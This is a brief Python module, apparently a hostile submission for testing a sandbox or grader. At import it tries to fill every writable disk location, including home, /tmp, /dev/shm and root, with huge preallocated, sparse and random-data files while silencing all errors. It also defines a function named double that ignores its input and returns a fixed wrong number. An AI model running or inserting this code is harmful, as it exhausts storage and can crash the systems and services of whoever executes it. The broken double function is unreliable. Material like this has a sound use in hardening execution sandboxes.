"""Fills every disk that it can write to, with real bytes, preallocated ones and sparse ones."""

import contextlib
import os
import tempfile

folders = [
    ".",
    "..",
    os.path.expanduser("~"),
    tempfile.gettempdir(),
    "/tmp",
    "/var/tmp",
    "/dev/shm",
    "/run",
    "/dev",
    "/",
]
block = os.urandom(1 << 24)
for folder in folders:
    for number in range(10):
        with contextlib.suppress(Exception):
            file = os.open(f"{folder}/fill-{number}", os.O_CREAT | os.O_WRONLY)
            with contextlib.suppress(Exception):
                os.posix_fallocate(file, 0, 1 << 40)
            with contextlib.suppress(Exception):
                os.ftruncate(file, 1 << 50)
            with contextlib.suppress(Exception):
                while os.write(file, block):
                    pass


def double(x):
    return -12345.678
